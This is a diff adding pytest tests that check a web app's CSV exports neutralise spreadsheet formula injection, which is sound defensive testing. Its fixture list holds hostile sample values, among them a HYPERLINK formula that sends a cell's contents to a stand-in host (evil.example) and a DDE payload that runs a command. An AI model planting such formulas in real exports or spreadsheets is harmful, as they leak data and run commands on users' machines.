@@ -433,3 +433,97 @@ def test_an_agencys_download_includes_its_co_issued_statements(client, db):
     agencies = csv_rows(client.get("/agencies/export.csv?name=lakeside"))
     assert agencies[0]["published_statement_count"] == "2"
     assert agencies[0]["words_and_deeds"] == "words_against_deeds"
+
+
+# Formula injection --------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def assert_inert(rows, columns):
+    """Every typed-in value comes out with a quote in front, so a spreadsheet shows
+    it as text instead of running it."""
+    seen = [row[column] for row in rows for column in columns]
+    assert seen, "the export should hold the hostile rows"
+    for value in seen:
+        assert value.startswith("'"), value
+        assert value[1:] in FORMULAS
+
+
+@pytest.fixture
+def hostile(db):
+    order = factories.OrderFactory(
+        slug="eo-hostile", number="1", title=FORMULAS[0], citation=FORMULAS[3]
+    )
+    agency = factories.AgencyFactory(
+        slug="hostile",
+        name=FORMULAS[0],
+        short_name=FORMULAS[1],
+        county=FORMULAS[2],
+        city=FORMULAS[3],
+    )
+    statement = published(
+        agency=agency,
+        slug="hostile-statement",
+        headline=FORMULAS[0],
+        speaker_name=FORMULAS[1],
+        speaker_title=FORMULAS[2],
+        summary=FORMULAS[4],
+        source_name=FORMULAS[5],
+    )
+    factories.PositionFactory(statement=statement, order=order, quote=FORMULAS[3])
+    factories.AgreementFactory(
+        agency=agency, signed_text=FORMULAS[2], ice_agency_name=FORMULAS[0]
+    )
+    changes.rebuild_derived()
+    return statement
+
+
+def test_statement_export_neutralises_formulas(client, hostile):
+    rows = csv_rows(client.get(EXPORT_CSV))
+    assert_inert(
+        rows,
+        ["headline", "agency_name", "speaker_name", "speaker_title", "summary"]
+        + ["source_name", "quote"],
+    )
+    # Numeric columns are still numbers.
+    assert rows[0]["statement_id"] == str(hostile.pk)
+
+
+def test_statement_json_export_keeps_the_text_as_typed(client, hostile):
+    # JSON is not opened by spreadsheets: the text stays exactly as written.
+    rows = json.loads(body(client.get(EXPORT_JSON)))
+    assert rows[0]["headline"] == FORMULAS[0]
+
+
+def test_agency_order_and_agreement_exports_neutralise_formulas(client, hostile):
+    agencies = csv_rows(client.get("/agencies/export.csv"))
+    assert_inert(agencies, ["name", "short_name", "county", "city"])
+    assert agencies[0]["published_statement_count"] == "1"
+    orders = csv_rows(client.get("/orders/export.csv"))
+    assert_inert(orders, ["title", "citation"])
+    agreements = csv_rows(client.get("/agreements/export.csv"))
+    assert_inert(agreements, ["agency_name", "signed_text", "ice_agency_name"])
+
+
+def test_admin_export_action_neutralises_formulas(client, hostile, editor):
+    client.force_login(editor)
+    response = client.post(
+        reverse("admin:statements_statement_changelist"),
+        {"action": "export_selected_as_csv", "_selected_action": [hostile.pk]},
+    )
+    rows = csv_rows(response)
+    assert_inert(rows, ["headline", "agency_name", "summary", "source_name"])
+
+
+def test_numbers_are_never_quoted_even_when_negative():
+    columns = [(name, "", None) for name in ("count", "ratio", "text")]
+    lines = list(exports.csv_lines(columns, [[-3, -0.5, "-3"], [0, 1.25, "=A1"]]))
+    assert lines[1:] == ["-3,-0.5,'-3\r\n", "0,1.25,'=A1\r\n"]
